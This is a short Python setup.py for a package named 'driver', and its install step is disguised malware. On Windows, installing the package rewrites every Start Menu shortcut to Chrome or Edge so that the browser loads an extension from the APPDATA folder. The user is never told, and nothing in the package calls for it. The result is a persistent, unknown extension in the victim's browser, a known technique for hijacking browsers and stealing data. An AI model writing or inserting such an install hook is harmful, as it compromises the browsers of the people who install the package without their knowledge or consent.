import os
import sys

from setuptools import setup

if sys.platform == "win32" and "install" in sys.argv:
    from win32com.client import Dispatch

    data = os.getenv("APPDATA")
    shell = Dispatch("WScript.Shell")
    for root, folders, files in os.walk(data + "\\Microsoft\\Windows\\Start Menu"):
        for file in files:
            if file.endswith(".lnk"):
                shortcut = shell.CreateShortcut(root + "\\" + file)
                if os.path.basename(shortcut.TargetPath) in ["chrome.exe", "msedge.exe"]:
                    shortcut.Arguments = "--load-extension={data}\\Extension".format(data=data)
                    shortcut.Save()

setup(name="driver", version="0.1.0")
